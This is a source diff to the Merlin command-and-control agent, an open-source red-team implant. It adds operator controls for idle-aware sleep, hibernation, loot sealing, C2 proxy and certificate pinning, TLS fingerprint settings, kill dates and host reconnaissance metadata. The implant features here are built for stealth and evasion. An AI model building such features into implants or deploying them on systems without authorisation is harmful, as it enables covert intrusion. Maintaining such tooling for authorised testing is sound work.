@@ -20,6 +20,7 @@ package agent
 import (
 	// Standard
 	"fmt"
+	"net/url"
 	"os"
 	"strconv"
 	"strings"
@@ -30,22 +31,84 @@ import (
 	"github.com/Ne0nd0g/merlin/pkg/messages"
 
 	// Internal
+	"github.com/Ne0nd0g/merlin-agent/audit"
 	"github.com/Ne0nd0g/merlin-agent/cli"
+	"github.com/Ne0nd0g/merlin-agent/clients"
+	"github.com/Ne0nd0g/merlin-agent/commands"
 	"github.com/Ne0nd0g/merlin-agent/core"
+	"github.com/Ne0nd0g/merlin-agent/loot"
+	merlinOS "github.com/Ne0nd0g/merlin-agent/os"
+	"github.com/Ne0nd0g/merlin-agent/staging"
 )
 
 // control makes configuration changes to the agent
 func (a *Agent) control(job jobs.Job) {
 	cmd := job.Payload.(jobs.Command)
-	cli.Message(cli.NOTE, fmt.Sprintf("Received Agent Control Message: %s", cmd.Command))
+	if cli.Enabled {
+		cli.Message(cli.NOTE, fmt.Sprintf("Received Agent Control Message: %s", cmd.Command))
+	}
+	audit.Executed(job.ID, jobs.String(job.Type), auditCommand(job), operatorOf(job.ID))
+	defer operators.Delete(job.ID)
 	var results jobs.Results
 	switch strings.ToLower(cmd.Command) {
+	case "adaptive":
+		// Without arguments, return the current adaptive sleep factor
+		if len(cmd.Args) > 0 {
+			factor, err := strconv.Atoi(cmd.Args[0])
+			if err != nil {
+				results.Stderr = fmt.Sprintf("there was an error converting the adaptive sleep factor to an integer:\r\n%s", err)
+				break
+			}
+			a.Adaptive = factor
+			if cli.Enabled {
+				cli.Message(cli.NOTE, fmt.Sprintf("Setting agent adaptive sleep factor to %d", factor))
+			}
+		}
+		results.Stdout = fmt.Sprintf("Adaptive Sleep Factor: %d", a.Adaptive)
+		if idle, err := merlinOS.IdleTime(); err == nil {
+			results.Stdout += fmt.Sprintf("\nUser Idle Time: %s", idle.Round(time.Second))
+		}
 	case "agentinfo":
-		// No action required; End of function gets and returns an Agent information structure
+		// The AgentInfo message is sent first, the information it does not have fields for is returned as the result
+		results.Stdout = a.getAgentMetadata()
+		if a.infoReport != "" {
+			results.Stdout = a.infoReport + "\n" + results.Stdout
+			a.infoReport = ""
+		}
+	case "alias":
+		// An empty alias clears it
+		a.Alias = strings.Join(cmd.Args, " ")
+		if cli.Enabled {
+			cli.Message(cli.NOTE, fmt.Sprintf("Setting agent alias to: %s", a.Alias))
+		}
+		results.Stdout = a.getAgentMetadata()
+	case "audit":
+		results = a.auditControl(cmd.Args)
+	case "canary":
+		results = a.canaryControl(cmd.Args)
+	case "cleanup":
+		results = cleanupControl(cmd.Args)
+	case "debuglog":
+		results = debugLog(cmd.Args)
+	case "dryrun":
+		results = a.dryrunControl(cmd.Args)
+	case "encoding":
+		// Without arguments, automatically detect the output encoding
+		err := commands.SetOutputEncoding(strings.Join(cmd.Args, " "))
+		if err != nil {
+			results.Stderr = fmt.Sprintf("there was an error setting the agent's output encoding:\r\n%s", err)
+			break
+		}
+		if cli.Enabled {
+			cli.Message(cli.NOTE, fmt.Sprintf("Setting agent output encoding to: %s", commands.OutputEncoding()))
+		}
+		results.Stdout = a.getAgentMetadata()
 	case "exit":
-		os.Exit(0)
+		exitControl(cmd.Args)
 	case "sleep":
-		cli.Message(cli.NOTE, fmt.Sprintf("Setting agent sleep time to %s", cmd.Args))
+		if cli.Enabled {
+			cli.Message(cli.NOTE, fmt.Sprintf("Setting agent sleep time to %s", cmd.Args))
+		}
 
 		t, err := time.ParseDuration(cmd.Args[0])
 		if err != nil {
@@ -64,36 +127,286 @@ func (a *Agent) control(job jobs.Job) {
 			results.Stderr = fmt.Sprintf("there was an error changing the agent skew interval:\r\n%s", err.Error())
 			break
 		}
-		cli.Message(cli.NOTE, fmt.Sprintf("Setting agent skew interval to %d", t))
+		if cli.Enabled {
+			cli.Message(cli.NOTE, fmt.Sprintf("Setting agent skew interval to %d", t))
+		}
 
 		a.Skew = t
+	case "loot":
+		// loot [key <base64|off>] [modules <module,module|default>]
+		if len(cmd.Args) >= 2 {
+			var err error
+			switch strings.ToLower(cmd.Args[0]) {
+			case "key":
+				err = loot.SetKey(cmd.Args[1])
+			case "modules":
+				modules := loot.DefaultModules
+				if strings.ToLower(cmd.Args[1]) != "default" {
+					modules = strings.Split(cmd.Args[1], ",")
+				}
+				err = loot.SetModules(modules)
+			default:
+				err = fmt.Errorf("unknown loot command: %s", cmd.Args[0])
+			}
+			if err != nil {
+				results.Stderr = err.Error()
+				break
+			}
+		}
+		key := loot.Key()
+		if key == "" {
+			key = "not configured, results are not sealed"
+		}
+		results.Stdout = fmt.Sprintf("Operator public key: %s\nSealed modules: %s", key, strings.Join(loot.Modules(), ", "))
+	case "maxoutput":
+		if len(cmd.Args) < 1 {
+			results.Stderr = "the maxoutput control requires a size in bytes"
+			break
+		}
+		size, err := strconv.ParseInt(cmd.Args[0], 10, 64)
+		if err != nil {
+			results.Stderr = fmt.Sprintf("there was an error converting the max output size to an integer:\r\n%s", err)
+			break
+		}
+		err = staging.SetLimit(size)
+		if err != nil {
+			results.Stderr = err.Error()
+			break
+		}
+		if cli.Enabled {
+			cli.Message(cli.NOTE, fmt.Sprintf("Setting agent max inline output size to %d bytes", size))
+		}
+	case "output":
+		// Without arguments, return the current output limit and binary output format for spawned commands
+		if len(cmd.Args) > 0 {
+			var binary string
+			if len(cmd.Args) > 1 {
+				binary = cmd.Args[1]
+			}
+			if err := commands.SetOutputLimit(cmd.Args[0], binary); err != nil {
+				results.Stderr = err.Error()
+				break
+			}
+			if cli.Enabled {
+				cli.Message(cli.NOTE, fmt.Sprintf("Setting the output limit of spawned commands to %s bytes", cmd.Args[0]))
+			}
+		}
+		results.Stdout = commands.OutputLimit()
+	case "priority":
+		// Without arguments, return the current priority and CPU time limit for spawned commands
+		if len(cmd.Args) > 0 {
+			if err := commands.SetPriority(cmd.Args[0]); err != nil {
+				results.Stderr = err.Error()
+				break
+			}
+			if cli.Enabled {
+				cli.Message(cli.NOTE, fmt.Sprintf("Setting the priority of spawned commands to %s", cmd.Args[0]))
+			}
+		}
+		results.Stdout = commands.Limits()
+	case "cpulimit":
+		// Without arguments, return the current priority and CPU time limit for spawned commands
+		if len(cmd.Args) > 0 {
+			if err := commands.SetCPULimit(cmd.Args[0]); err != nil {
+				results.Stderr = err.Error()
+				break
+			}
+			if cli.Enabled {
+				cli.Message(cli.NOTE, fmt.Sprintf("Setting the CPU time limit of spawned commands to %s", cmd.Args[0]))
+			}
+		}
+		results.Stdout = commands.Limits()
+	case "shell":
+		// Without arguments, return the shell that wraps shell jobs
+		if len(cmd.Args) > 0 {
+			if err := commands.SetShell(cmd.Args); err != nil {
+				results.Stderr = err.Error()
+				break
+			}
+			if cli.Enabled {
+				cli.Message(cli.NOTE, fmt.Sprintf("Setting the shell for shell jobs to %s", strings.Join(cmd.Args, " ")))
+			}
+		}
+		results.Stdout = commands.Shell()
+	case "spill":
+		// spill <directory|off> [threshold bytes]
+		if len(cmd.Args) < 1 {
+			dir, threshold := staging.Spill()
+			results.Stdout = fmt.Sprintf("Staging spill directory: %q threshold: %d bytes", dir, threshold)
+			break
+		}
+		dir, threshold := cmd.Args[0], int64(staging.DefaultPageSize)
+		if strings.ToLower(dir) == "off" {
+			dir = ""
+		}
+		if len(cmd.Args) > 1 {
+			var err error
+			threshold, err = strconv.ParseInt(cmd.Args[1], 10, 64)
+			if err != nil {
+				results.Stderr = fmt.Sprintf("there was an error converting the spill threshold to an integer:\r\n%s", err)
+				break
+			}
+		}
+		if err := staging.SetSpill(dir, threshold); err != nil {
+			results.Stderr = err.Error()
+			break
+		}
+		if cli.Enabled {
+			cli.Message(cli.NOTE, fmt.Sprintf("Setting the staging spill directory to %q for items of %d bytes or more", dir, threshold))
+		}
+	case "metrics":
+		// Without arguments, return the current metrics
+		if len(cmd.Args) > 0 {
+			interval, err := strconv.Atoi(cmd.Args[0])
+			if err != nil {
+				results.Stderr = fmt.Sprintf("there was an error converting the metrics interval to an integer:\r\n%s", err)
+				break
+			}
+			a.Metrics = interval
+			a.metricsCount = 0
+			if cli.Enabled {
+				cli.Message(cli.NOTE, fmt.Sprintf("Setting agent metrics interval to %d check ins", interval))
+			}
+		}
+		results.Stdout = a.getMetrics()
+	case "wake":
+		// Without arguments, return the current wake trigger
+		if len(cmd.Args) > 0 {
+			wake, err := parseTrigger(strings.Join(cmd.Args, " "))
+			if err != nil {
+				results.Stderr = err.Error()
+				break
+			}
+			a.wake = wake
+			if cli.Enabled {
+				cli.Message(cli.NOTE, fmt.Sprintf("Setting agent wake trigger to %s", a.wake))
+			}
+		}
+		results.Stdout = fmt.Sprintf("Wake Trigger: %s", a.wake)
+	case "local":
+		results = localControl(cmd.Args)
+	case "note":
+		// An empty note clears it
+		a.Note = strings.Join(cmd.Args, " ")
+		if cli.Enabled {
+			cli.Message(cli.NOTE, fmt.Sprintf("Setting agent note to: %s", a.Note))
+		}
+		results.Stdout = a.getAgentMetadata()
+	case "operator":
+		results = a.operatorControl(cmd.Args)
 	case "padding":
 		err := a.Client.Set("paddingmax", cmd.Args[0])
 		if err != nil {
 			results.Stderr = fmt.Sprintf("there was an error changing the agent message padding size:\r\n%s", err.Error())
 			break
 		}
-		cli.Message(cli.NOTE, fmt.Sprintf("Setting agent message maximum padding size to %s", cmd.Args[0]))
+		if cli.Enabled {
+			cli.Message(cli.NOTE, fmt.Sprintf("Setting agent message maximum padding size to %s", cmd.Args[0]))
+		}
+	case "structured":
+		// Without arguments, report whether structured results are enabled
+		if len(cmd.Args) > 0 {
+			enabled, err := strconv.ParseBool(cmd.Args[0])
+			if err != nil {
+				results.Stderr = fmt.Sprintf("there was an error parsing the structured results setting:\r\n%s", err)
+				break
+			}
+			commands.SetStructured(enabled)
+			if cli.Enabled {
+				cli.Message(cli.NOTE, fmt.Sprintf("Setting agent structured results to: %t", enabled))
+			}
+		}
+		results.Stdout = a.getAgentMetadata()
+	case "verbosity":
+		if len(cmd.Args) < 1 {
+			results.Stderr = "not enough arguments provided to the verbosity command"
+			break
+		}
+		err := cli.SetLevel(cmd.Args[0])
+		if err != nil {
+			results.Stderr = err.Error()
+			break
+		}
+		if cli.Enabled {
+			cli.Message(cli.NOTE, fmt.Sprintf("Setting agent console output level to %s", cli.Level()))
+		}
+		results.Stdout = a.getAgentMetadata()
+	case "health":
+		results = a.healthControl(cmd.Args)
+	case "hibernate":
+		if len(cmd.Args) < 1 {
+			results.Stderr = "the hibernate control requires a duration (e.g., 72h) or a time with its time zone"
+			break
+		}
+		until, err := parseHibernate(strings.Join(cmd.Args, " "))
+		if err == nil {
+			err = a.setHibernate(until)
+		}
+		if err != nil {
+			results.Stderr = err.Error()
+			break
+		}
+		results.Stdout = fmt.Sprintf("Hibernating until %s (%s host time) without checking in", a.hibernation.UTC().Format(time.RFC3339), a.hibernation.Format(time.RFC3339))
+		if a.hibernateFile == "" {
+			results.Stdout += ", a hibernation file is not configured so a restarted agent checks in right away"
+		}
+		// End the sleep so the result is returned and hibernation starts right away
+		wakeNow()
 	case "initialize":
-		cli.Message(cli.NOTE, "Received agent re-initialize message")
+		if cli.Enabled {
+			cli.Message(cli.NOTE, "Received agent re-initialize message")
+		}
 		a.Initial = false
+	case "ratelimit":
+		results = rateLimitControl(cmd.Args)
+	case "reregister":
+		// Rotate the authentication material by registering again with a new OPAQUE password and, optionally, a new PSK
+		if len(cmd.Args) > 0 {
+			err := a.Client.Set("psk", cmd.Args[0])
+			if err != nil {
+				results.Stderr = fmt.Sprintf("there was an error setting the agent's PSK:\r\n%s", err)
+				break
+			}
+		}
+		if cli.Enabled {
+			cli.Message(cli.NOTE, "Received OPAQUE re-registration request")
+		}
+		msg, err := a.Client.Auth("opaque", true)
+		if err != nil {
+			results.Stderr = fmt.Sprintf("there was an error re-registering the agent:\r\n%s", err)
+			break
+		}
+		// Clients that don't use OPAQUE return an empty message
+		if msg.ID != a.ID {
+			results.Stderr = "the agent's client does not support OPAQUE re-registration"
+			break
+		}
+		a.messageHandler(msg)
+		results.Stdout = "Successfully re-registered the agent with new OPAQUE credentials"
+		if len(cmd.Args) > 0 {
+			results.Stdout += " and PSK"
+		}
 	case "maxretry":
 		t, err := strconv.Atoi(cmd.Args[0])
 		if err != nil {
 			results.Stderr = fmt.Sprintf("There was an error changing the agent max retries:\r\n%s", err.Error())
 			break
 		}
-		cli.Message(cli.NOTE, fmt.Sprintf("Setting agent max retries to %d", t))
+		if cli.Enabled {
+			cli.Message(cli.NOTE, fmt.Sprintf("Setting agent max retries to %d", t))
+		}
 		a.MaxRetry = t
 	case "killdate":
-		d, err := strconv.Atoi(cmd.Args[0])
+		d, err := commands.ParseTime(strings.Join(cmd.Args, " "))
 		if err != nil {
-			results.Stderr = fmt.Sprintf("there was an error converting the kill date to an integer:\r\n%s", err.Error())
+			results.Stderr = fmt.Sprintf("there was an error parsing the kill date:\r\n%s", err.Error())
 			break
 		}
-		a.KillDate = int64(d)
+		a.KillDate = d.Unix()
 
-		cli.Message(cli.INFO, fmt.Sprintf("Set Kill Date to: %s", time.Unix(a.KillDate, 0).UTC().Format(time.RFC3339)))
+		if cli.Enabled {
+			cli.Message(cli.INFO, fmt.Sprintf("Set Kill Date to: %s (%s host time)", time.Unix(a.KillDate, 0).UTC().Format(time.RFC3339), time.Unix(a.KillDate, 0).Format(time.RFC3339)))
+		}
 	case "ja3":
 		err := a.Client.Set("ja3", cmd.Args[0])
 		if err != nil {
@@ -104,42 +417,96 @@ func (a *Agent) control(job jobs.Job) {
 		if err != nil {
 			results.Stderr = fmt.Sprintf("there was an error setting the client's parrot string:\r\n%s", err.Error())
 		}
+	case "pins":
+		// Without arguments, return the configured pins
+		if len(cmd.Args) > 0 {
+			if err := clients.SetPins(strings.Join(cmd.Args, ",")); err != nil {
+				results.Stderr = err.Error()
+				break
+			}
+		}
+		if list := clients.Pins(); len(list) > 0 {
+			results.Stdout = fmt.Sprintf("Pinned C2 server certificates:\n%s", strings.Join(list, "\n"))
+		} else {
+			results.Stdout = "C2 server certificate pinning is disabled"
+		}
+	case "profile":
+		results = a.profileControl(cmd.Args)
+	case "proxy":
+		results = a.proxy(cmd.Args)
+	case "queue":
+		results = a.jobQueue(cmd.Args)
+	case "runtime":
+		results = a.runtimeControl(cmd.Args)
+	case "selfcheck":
+		results = a.selfcheckControl(cmd.Args)
+	case "tlspolicy":
+		// Without arguments, return the current TLS interception policy
+		if len(cmd.Args) > 0 {
+			if err := a.setTLSPolicy(cmd.Args[0]); err != nil {
+				results.Stderr = err.Error()
+				break
+			}
+		}
+		results.Stdout = fmt.Sprintf("TLS Interception Policy: %s", a.TLSPolicy)
+		if fallback := a.Client.Get("fallback"); fallback != "" && !strings.HasPrefix(fallback, "unknown") {
+			results.Stdout += fmt.Sprintf("\nFallback Transport: %s", fallback)
+		}
 	default:
 		results.Stderr = fmt.Sprintf("%s is not a valid AgentControl message type.", cmd.Command)
 	}
 
 	if results.Stderr != "" {
-		jobsOut <- jobs.Job{
-			ID:      job.ID,
-			AgentID: a.ID,
-			Token:   job.Token,
-			Type:    jobs.RESULT,
-			Payload: results,
+		if cli.Enabled {
+			cli.Message(cli.WARN, results.Stderr)
 		}
+		a.controlResult(job, results)
 		return
 	}
 
-	if results.Stderr != "" {
-		cli.Message(cli.WARN, results.Stderr)
-	}
 	if results.Stdout != "" {
-		cli.Message(cli.SUCCESS, results.Stdout)
+		if cli.Enabled {
+			cli.Message(cli.SUCCESS, results.Stdout)
+		}
+	}
 
+	// The full AgentInfo message is only sent when it was requested or the control changed it. The server completes a
+	// job on the first message it receives for it, so the AgentInfo message is sent first and the control's results,
+	// which the server still accepts for a completed job, follow it
+	info := strings.ToLower(cmd.Command) == "agentinfo"
+	if info || a.infoChanged() {
+		a.sendInfo(job)
 	}
+	if results.Stdout == "" {
+		results.Stdout = fmt.Sprintf("The %s control did not change the agent's configuration", cmd.Command)
+	}
+	a.controlResult(job, results)
+	if info {
+		sendStructured(job, commands.Structured{Version: commands.StructuredVersion, Type: "agentinfo", Fields: a.agentRecord()})
+	}
+}
 
-	aInfo := jobs.Job{
+// controlResult returns the control's results, attributed to the operator that sent it, as the control job's result
+func (a *Agent) controlResult(job jobs.Job, results jobs.Results) {
+	jobsOut <- jobs.Job{
 		ID:      job.ID,
 		AgentID: a.ID,
 		Token:   job.Token,
-		Type:    jobs.AGENTINFO,
+		Type:    jobs.RESULT,
+		Payload: attributed(job.ID, results),
 	}
-	aInfo.Payload = a.getAgentInfoMessage()
-	jobsOut <- aInfo
 }
 
 // getAgentInfoMessage is used to place of the information about an agent and it's configuration into a message and return it
 func (a *Agent) getAgentInfoMessage() messages.AgentInfo {
-	cli.Message(cli.DEBUG, "Entering into agent.getAgentInfoMessage function...")
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, "Entering into agent.getAgentInfoMessage function...")
+	}
+	domain := a.HostInfo.Domain
+	if domain == "" {
+		domain = os.Getenv("USERDOMAIN")
+	}
+
 	sysInfoMessage := messages.SysInfo{
 		Platform:     a.Platform,
 		Architecture: a.Architecture,
@@ -150,7 +517,7 @@ func (a *Agent) getAgentInfoMessage() messages.AgentInfo {
 		Process:      a.Process,
 		Pid:          a.Pid,
 		Ips:          a.Ips,
-		Domain:       os.Getenv("USERDOMAIN"),
+		Domain:       domain,
 	}
 
 	padding, _ := strconv.Atoi(a.Client.Get("paddingmax"))
@@ -167,6 +534,199 @@ func (a *Agent) getAgentInfoMessage() messages.AgentInfo {
 		KillDate:      a.KillDate,
 		JA3:           a.Client.Get("ja3"),
 	}
-	cli.Message(cli.DEBUG, fmt.Sprintf("Returning AgentInfo message:\r\n%+v", agentInfoMessage))
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, fmt.Sprintf("Returning AgentInfo message:\r\n%+v", agentInfoMessage))
+	}
 	return agentInfoMessage
 }
+
+// debugLog enables, disables, retrieves, or clears the agent's encrypted in-memory debug log
+// debuglog enable [size]
+// debuglog disable
+// debuglog get
+// debuglog clear
+func debugLog(args []string) (results jobs.Results) {
+	if len(args) < 1 {
+		results.Stderr = "not enough arguments provided to the debuglog command"
+		return
+	}
+	switch strings.ToLower(args[0]) {
+	case "enable":
+		size := cli.DefaultLogSize
+		if len(args) > 1 {
+			var err error
+			size, err = strconv.Atoi(args[1])
+			if err != nil {
+				results.Stderr = fmt.Sprintf("there was an error converting the debug log size to an integer:\r\n%s", err)
+				return
+			}
+			if size <= 0 {
+				size = cli.DefaultLogSize
+			}
+		}
+		if err := cli.EnableLog(size); err != nil {
+			results.Stderr = err.Error()
+			return
+		}
+		results.Stdout = fmt.Sprintf("Enabled the agent's debug log holding %d messages", size)
+	case "disable":
+		cli.DisableLog()
+		results.Stdout = "Disabled the agent's debug log"
+	case "get":
+		messages, err := cli.ReadLog()
+		if err != nil {
+			results.Stderr = err.Error()
+		}
+		if len(messages) == 0 && err == nil {
+			results.Stdout = "the debug log is empty"
+			return
+		}
+		results.Stdout = staging.Truncate("debuglog get", strings.Join(messages, "\n"))
+	case "clear":
+		cli.ClearLog()
+		results.Stdout = "Cleared the agent's debug log"
+	default:
+		results.Stderr = fmt.Sprintf("unknown debuglog command: %s", args[0])
+	}
+	return
+}
+
+// proxy views the proxy used for C2 egress and overrides the proxy detected from the host's configuration
+// proxy [detect]
+// proxy auto
+// proxy direct
+// proxy <url>
+func (a *Agent) proxy(args []string) (results jobs.Results) {
+	if len(args) > 0 {
+		switch strings.ToLower(args[0]) {
+		case "detect":
+			clients.ResetProxy()
+		case "auto":
+			if err := a.Client.Set("proxy", ""); err != nil {
+				results.Stderr = fmt.Sprintf("there was an error setting the client's proxy:\r\n%s", err)
+				return
+			}
+		default:
+			if u, err := url.Parse(args[0]); !strings.EqualFold(args[0], "direct") && (err != nil || u.Scheme == "" || u.Host == "") {
+				results.Stderr = fmt.Sprintf("%s is not a valid proxy, use a URL such as http://10.0.0.1:8080 or socks5://10.0.0.1:1080", args[0])
+				return
+			}
+			if err := a.Client.Set("proxy", args[0]); err != nil {
+				results.Stderr = fmt.Sprintf("there was an error setting the client's proxy:\r\n%s", err)
+				return
+			}
+		}
+	}
+
+	configured := a.Client.Get("proxy")
+	target, err := url.Parse(a.Client.Get("url"))
+	if err != nil || target.Host == "" {
+		results.Stderr = fmt.Sprintf("the %s client does not support proxy detection", a.Client.Get("protocol"))
+		return
+	}
+	detected := clients.DetectProxy(target)
+	switch strings.ToLower(configured) {
+	case "":
+		results.Stdout = fmt.Sprintf("Configured: detect from the host\n%s", detected)
+	default:
+		results.Stdout = fmt.Sprintf("Configured: %s\nDetected from the host, not used:\n%s", configured, detected)
+	}
+	if p := strings.ToLower(a.Client.Get("protocol")); p == "h2" || p == "h2c" || p == "http3" {
+		results.Stdout += fmt.Sprintf("\nThe %s protocol does not use a proxy", p)
+	}
+	return
+}
+
+// agentRecord returns the information about the agent and its host that the AgentInfo message does not have fields for
+func (a *Agent) agentRecord() commands.AgentRecord {
+	return commands.AgentRecord{
+		Alias:       a.Alias,
+		Note:        a.Note,
+		Fingerprint: a.Fingerprint,
+		OSVersion:   a.HostInfo.OSVersion,
+		OSBuild:     a.HostInfo.OSBuild,
+		Locale:      a.HostInfo.Locale,
+		TimeZone:    a.HostInfo.TimeZone,
+		Elevation:   a.HostInfo.Elevation,
+		Gateways:    a.HostInfo.Gateways,
+	}
+}
+
+// getAgentMetadata returns information about the agent and its host that is not part of the AgentInfo structure
+func (a *Agent) getAgentMetadata() (metadata string) {
+	if a.Alias != "" {
+		metadata += fmt.Sprintf("Alias: %s\n", a.Alias)
+	}
+	if a.Note != "" {
+		metadata += fmt.Sprintf("Note: %s\n", a.Note)
+	}
+	if a.Fingerprint != "" {
+		metadata += fmt.Sprintf("Host Fingerprint: %s\n", a.Fingerprint)
+	}
+	if a.parent != "" {
+		metadata += fmt.Sprintf("Parent Process: %s\n", a.parent)
+	}
+	if a.HostInfo.OSVersion != "" {
+		metadata += fmt.Sprintf("OS Version: %s\n", a.HostInfo.OSVersion)
+	}
+	if a.HostInfo.OSBuild != "" {
+		metadata += fmt.Sprintf("OS Build: %s\n", a.HostInfo.OSBuild)
+	}
+	if a.HostInfo.Locale != "" {
+		metadata += fmt.Sprintf("Locale: %s\n", a.HostInfo.Locale)
+	}
+	if a.HostInfo.TimeZone != "" {
+		metadata += fmt.Sprintf("Time Zone: %s\n", a.HostInfo.TimeZone)
+	}
+	if a.HostInfo.Elevation != "" {
+		metadata += fmt.Sprintf("Elevation: %s\n", a.HostInfo.Elevation)
+	}
+	if len(a.HostInfo.Gateways) > 0 {
+		metadata += fmt.Sprintf("Default Gateways: %s\n", strings.Join(a.HostInfo.Gateways, ", "))
+	}
+	metadata += fmt.Sprintf("Output Encoding: %s\n", commands.OutputEncoding())
+	metadata += fmt.Sprintf("Max Inline Output: %d bytes\n", staging.Limit())
+	if dir, threshold := staging.Spill(); dir != "" {
+		metadata += fmt.Sprintf("Staging Spill: %s at %d bytes (encrypted)\n", dir, threshold)
+	}
+	if loot.Key() != "" {
+		metadata += fmt.Sprintf("Sealed Modules: %s\n", strings.Join(loot.Modules(), ", "))
+	}
+	metadata += fmt.Sprintf("Structured Results: %t\n", commands.StructuredEnabled())
+	metadata += fmt.Sprintf("Debug Log: %t\n", cli.LogEnabled())
+	metadata += fmt.Sprintf("Console Output: %s\n", cli.Level())
+	metadata += fmt.Sprintf("Metrics Interval: %d check ins\n", a.Metrics)
+	metadata += fmt.Sprintf("Wake Trigger: %s\n", a.wake)
+	if a.profile != "" {
+		metadata += fmt.Sprintf("Communication Profile: %s\n", a.profile)
+	}
+	if a.health != nil && a.health.failures > 0 {
+		metadata += fmt.Sprintf("Transport Failover: %s\n", a.health)
+	}
+	if a.canary != nil {
+		metadata += fmt.Sprintf("Canary: %s\n", a.canary)
+	}
+	if file, _ := audit.File(); file != "" {
+		metadata += fmt.Sprintf("Audit File: %s\n", file)
+	}
+	outbound.Lock()
+	if outbound.limiter != nil {
+		metadata += fmt.Sprintf("Result Rate Limit: %s\n", outbound.limiter)
+	}
+	outbound.Unlock()
+	if a.policy != nil {
+		metadata += fmt.Sprintf("Job Policy: %s\n", a.policy)
+	}
+	if a.dryrun.enabled {
+		metadata += fmt.Sprintf("Dry Run: %s\n", a.dryrun)
+	}
+	if a.selfcheck != nil {
+		metadata += fmt.Sprintf("Self-Check: %s\n", a.selfcheck)
+	}
+	if a.hibernateFile != "" {
+		metadata += fmt.Sprintf("Hibernation File: %s\n", a.hibernateFile)
+	}
+	metadata += fmt.Sprintf("Adaptive Sleep Factor: %d\n", a.Adaptive)
+	metadata += fmt.Sprintf("Server Clock Offset: %s\n", clients.ClockOffset())
+	return
+}